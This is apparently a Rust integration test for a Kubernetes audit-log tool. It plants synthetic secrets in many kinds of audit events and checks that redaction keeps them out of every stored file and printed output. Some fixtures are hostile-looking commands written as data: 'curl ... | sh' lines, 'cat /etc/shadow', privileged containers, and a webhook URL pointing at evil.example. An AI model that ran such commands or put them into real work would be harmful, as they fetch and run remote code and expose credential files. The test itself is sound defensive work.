//! Secrets that arrive in events are nowhere afterwards: not in the journal, the index, the alerts,
//! the state, the log, the metrics, nor in anything a command prints.

use std::path::{Path, PathBuf};

use base64::Engine as _;
use serde_json::{Value, json};

use crate::daemon::{Daemon, lapwing, stderr, stdout, until};

/// A secret and the event it hides in.
struct Planted {
    place: &'static str,
    secret: String,
    body: String,
}

/// A word that occurs nowhere else.
fn word(n: usize) -> String {
    format!("Zq{n:02}xK7vPlantedW3")
}

fn event(n: usize, with: Value) -> Value {
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": format!("planted-{n}"),
        "stage": "ResponseComplete", "verb": "create", "requestURI": "/api/v1/namespaces/web/pods",
        "user": {"username": format!("eve{n}@corp.example"), "groups": ["system:authenticated"]},
        "sourceIPs": ["172.20.4.66"], "userAgent": "kubectl/v1.32.4 (linux/amd64) kubernetes/59526cd",
        "objectRef": {"resource": "pods", "namespace": "web", "name": "p", "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 201},
        "requestReceivedTimestamp": "2026-11-20T09:00:00.000000Z", "stageTimestamp": "2026-11-20T09:00:00.100000Z",
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
    });
    for (key, value) in with.as_object().expect("an object") {
        event[key.as_str()] = value.clone();
    }
    event
}

fn reference(resource: &str, subresource: &str) -> Value {
    json!({"resource": resource, "subresource": subresource, "namespace": "web", "name": "p", "apiVersion": "v1"})
}

fn exec(command: &[&str]) -> Value {
    let encode =
        |c: &&str| format!("command={}", percent_encoding::utf8_percent_encode(c, percent_encoding::NON_ALPHANUMERIC));
    let query: Vec<String> = command.iter().map(encode).collect();
    json!({"requestURI": format!("/api/v1/namespaces/web/pods/p/exec?{}&container=c&stdin=true&stdout=true", query.join("&")),
        "objectRef": reference("pods", "exec"), "responseStatus": {"code": 101}, "stage": "ResponseStarted"})
}

fn written(resource: &str, body: Value) -> Value {
    json!({"requestObject": body, "objectRef": reference(resource, "")})
}

fn pod(container: Value) -> Value {
    written("pods", json!({"kind": "Pod", "apiVersion": "v1", "spec": {"containers": [container]}}))
}

fn base64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn jwt(w: &str) -> String {
    format!("eyJhbGciOiJSUzI1NiJ9.eyJ{w}.{w}")
}

fn applied(w: &str) -> String {
    json!({"kind": "Secret", "stringData": {"pw": w}}).to_string()
}

/// Each place a secret can hide in, with its own secret.
fn planted() -> Vec<Planted> {
    type Make = fn(&str) -> Value;
    let list: Vec<(&'static str, Make)> = vec![
        ("secret data", |w| written("secrets", json!({"kind": "Secret", "data": {"k": base64(w)}}))),
        ("secret data as sent", |w| written("secrets", json!({"kind": "Secret", "data": {"k": w}}))),
        ("stringData", |w| written("secrets", json!({"kind": "Secret", "stringData": {"k": w}}))),
        ("answered secret", |w| {
            json!({"verb": "get", "objectRef": reference("secrets", ""),
            "responseObject": {"kind": "Secret", "data": {"k": w}}})
        }),
        ("answered list", |w| {
            json!({"verb": "list", "objectRef": reference("secrets", ""),
            "responseObject": {"kind": "SecretList", "items": [{"metadata": {"name": "a"}, "data": {"k": w}}]}})
        }),
        (
            "merge patch",
            |w| json!({"verb": "patch", "objectRef": reference("secrets", ""), "requestObject": {"data": {"k": w}}}),
        ),
        ("json patch", |w| {
            json!({"verb": "patch", "objectRef": reference("secrets", ""),
            "requestObject": [{"op": "replace", "path": "/data/k", "value": w}]})
        }),
        ("last applied", |w| {
            written(
                "secrets",
                json!({"kind": "Secret", "metadata": {"annotations":
            {"kubectl.kubernetes.io/last-applied-configuration": applied(w)}}}),
            )
        }),
        ("secret in a list of another kind", |w| {
            written("widgets", json!({"kind": "List", "items": [{"kind": "Secret", "data": {"k": w}}]}))
        }),
        ("token review", |w| written("tokenreviews", json!({"kind": "TokenReview", "spec": {"token": w}}))),
        ("token request", |w| {
            json!({"objectRef": reference("serviceaccounts", "token"),
            "responseObject": {"kind": "TokenRequest", "status": {"token": jwt(w)}}})
        }),
        ("bearer in the path's query", |w| {
            json!({"requestURI": format!("/api/v1/namespaces/web/services/s/proxy/x?access_token={w}"),
            "objectRef": reference("services", "proxy"), "verb": "get"})
        }),
        ("token parameter", |w| json!({"requestURI": format!("/api/v1/pods?token={w}"), "verb": "get"})),
        (
            "signature parameter",
            |w| json!({"requestURI": format!("/x?X-Amz-Signature={w}"), "verb": "get", "objectRef": null}),
        ),
        ("password flag", |w| exec(&["etcdctl", "--password", w])),
        ("password flag glued", |w| exec(&["vault", &format!("--token={w}")])),
        ("mysql -p", |w| exec(&["mysql", "-uroot", &format!("-p{w}")])),
        ("curl -u", |w| exec(&["curl", "-u", &format!("bob:{w}"), "https://x"])),
        ("header in a shell", |w| exec(&["sh", "-c", &format!("curl -H 'Authorization: Bearer {w}' https://x | sh")])),
        ("variable in a shell", |w| exec(&["sh", "-c", &format!("PGPASSWORD={w} psql; cat /etc/shadow")])),
        ("url in a command", |w| exec(&["wget", &format!("https://bob:{w}@x/y")])),
        ("environment", |w| pod(json!({"name": "c", "env": [{"name": "DB_PASSWORD", "value": w}]}))),
        ("environment, value first", |w| {
            json!({"requestObject": {"spec": {"template": {"spec": {"containers":
            [{"env": [{"name": "API_KEY", "value": w}], "securityContext": {"privileged": true}}]}}}},
            "objectRef": reference("deployments", "")})
        }),
        ("argument of a container", |w| {
            pod(json!({"name": "c", "args": ["--api-key", w], "securityContext": {"privileged": true}}))
        }),
        ("command of a container", |w| {
            pod(json!({"name": "c", "command": ["sh", "-c", format!("curl -u a:{w} x | sh")]}))
        }),
        ("config map key", |w| written("configmaps", json!({"kind": "ConfigMap", "data": {"DB_PASSWORD": w}}))),
        ("config map file", |w| {
            written("configmaps", json!({"kind": "ConfigMap", "data": {"app.yaml": format!("db:\n  password: {w}\n")}}))
        }),
        ("user agent", |w| json!({"userAgent": format!("script Bearer {w}1="), "verb": "get"})),
        (
            "annotation",
            |w| json!({"annotations": {"x": format!("https://u:{w}@h"), "authorization.k8s.io/decision": "allow"}}),
        ),
        (
            "status message",
            |w| json!({"responseStatus": {"code": 400, "message": format!("password={w} is too short")}}),
        ),
        ("webhook configuration", |w| {
            written(
                "validatingwebhookconfigurations",
                json!({"webhooks": [{"clientConfig": {"url": format!("https://a:{w}@evil.example/")}}]}),
            )
        }),
        ("jwt anywhere", |w| written("widgets", json!({"spec": {"note": jwt(w)}}))),
    ];
    let mut all: Vec<Planted> = list
        .iter()
        .enumerate()
        .map(|(n, (place, make))| Planted { place, secret: word(n), body: event(n, make(&word(n))).to_string() })
        .collect();
    // Bodies nobody can read whole.
    let secret = |n: usize| event(n, written("secrets", json!({"kind": "Secret", "data": {"k": word(n)}}))).to_string();
    let cut = |text: String, n: usize| text[..text.find(&word(n)).expect("planted") + word(n).len()].to_owned();
    let mut damaged = |place, n: usize, body: String| all.push(Planted { place, secret: word(n), body });
    damaged("cut behind the secret", 70, cut(secret(70), 70));
    damaged("cut within a list", 71, format!(r#"{{"kind":"EventList","items":[{}"#, cut(secret(71), 71)));
    damaged("no event", 72, json!({"kind": "Secret", "apiVersion": "v1", "stringData": {"k": word(72)}}).to_string());
    damaged("not JSON", 73, format!("Authorization: Bearer {}", word(73)));
    damaged("damaged in front", 74, secret(74).replacen(r#""kind""#, r#"kind""#, 1));
    damaged("damaged behind", 75, secret(75).replace("\"stage\"", "stage"));
    all
}

/// Every file below `dir`.
fn files(dir: &Path, found: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).expect("a directory") {
        let path = entry.expect("an entry").path();
        if path.is_dir() { files(&path, found) } else { found.push(path) }
    }
}

/// The secret in the forms it could have survived in.
fn forms(secret: &str) -> Vec<Vec<u8>> {
    let mut forms = vec![secret.as_bytes().to_vec(), secret.to_lowercase().into_bytes()];
    // Of base64, the part that does not depend on what stands around.
    for lead in 0..3 {
        let text =
            base64::engine::general_purpose::STANDARD_NO_PAD.encode([&b"xxx"[..lead], secret.as_bytes()].concat());
        forms.push(text.as_bytes()[if lead == 0 { 0 } else { 4 }..text.len() - 2].to_vec());
    }
    forms
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}

fn run(daemon: &Daemon, args: &[&str]) -> Vec<u8> {
    let dir = daemon.data_dir();
    let output = lapwing(&[args, &["--data-dir", &dir]].concat());
    assert!(output.status.code().is_some_and(|c| c < 2), "{args:?}: {}", stderr(&output));
    [output.stdout, output.stderr].concat()
}

#[test]
fn planted_secrets_are_nowhere_afterwards() {
    let planted = planted();
    assert!(planted.len() >= 30);
    let mut daemon = Daemon::start("");
    for p in &planted {
        assert!(contains(p.body.as_bytes(), p.secret.as_bytes()) || p.place == "secret data", "{}", p.place);
        assert_eq!(daemon.post(p.body.as_bytes()).map(|(code, _)| code).ok(), Some(200), "{}", p.place);
    }
    let found = |query: &str| {
        let output =
            lapwing(&["search", "--data-dir", &daemon.data_dir(), "--output", "ndjson", "-n", "10000", "--", query]);
        stdout(&output).lines().count()
    };
    until("the events in the index", || (found("kind:event OR kind:reject") >= planted.len()).then_some(()));
    until("alerts that tell of commands and pods", || {
        (found("kind:alert") >= 8 && !daemon.alerts().is_empty()).then_some(())
    });
    let mut places: Vec<(String, Vec<u8>)> = vec![
        ("/metrics".into(), daemon.metrics().into_bytes()),
        ("search --raw".into(), run(&daemon, &["search", "--raw", "-n", "10000"])),
        ("search".into(), run(&daemon, &["search", "-o", "ndjson", "-n", "10000"])),
        ("show".into(), run(&daemon, &["show", "planted-20"])),
    ];
    assert!(daemon.stop().success());
    assert!(contains(&places[1].1, b"<redacted 17 bytes>"), "the originals are there, without their secrets");
    assert!(contains(&places[1].1, b"eve31@corp.example"));
    let mut paths = Vec::new();
    files(&daemon.dir, &mut paths);
    for part in ["data/journal", "data/alerts", "data/index", "alerts.ndjson", "log"] {
        let part = daemon.dir.join(part);
        assert!(paths.iter().any(|p| p.starts_with(&part)), "{} is missing: {paths:?}", part.display());
    }
    places.extend(paths.into_iter().map(|p| (p.display().to_string(), std::fs::read(&p).expect("readable"))));
    let mut leaks = Vec::new();
    for p in &planted {
        for form in forms(&p.secret) {
            for (place, _) in places.iter().filter(|(_, bytes)| contains(bytes, &form)) {
                leaks.push(format!("{}: {} in {place}", p.place, String::from_utf8_lossy(&form)));
            }
        }
    }
    assert!(leaks.is_empty(), "{} leaks:\n{}", leaks.len(), leaks.join("\n"));
    // Scanning prints evidence too, and never wrote anything.
    let lines: Vec<u8> = planted.iter().flat_map(|p| [p.body.as_bytes(), b"\n"].concat()).collect();
    for args in [&["scan", "--findings", "-o", "ndjson", "-"][..], &["scan", "-o", "text", "--verbose", "-"]] {
        let output = crate::daemon::lapwing_with(args, &lines);
        let printed = [output.stdout, output.stderr].concat();
        let leaks: Vec<_> =
            planted.iter().filter(|p| contains(&printed, p.secret.as_bytes())).map(|p| p.place).collect();
        assert!(leaks.is_empty(), "{args:?} prints {leaks:?}");
    }
}
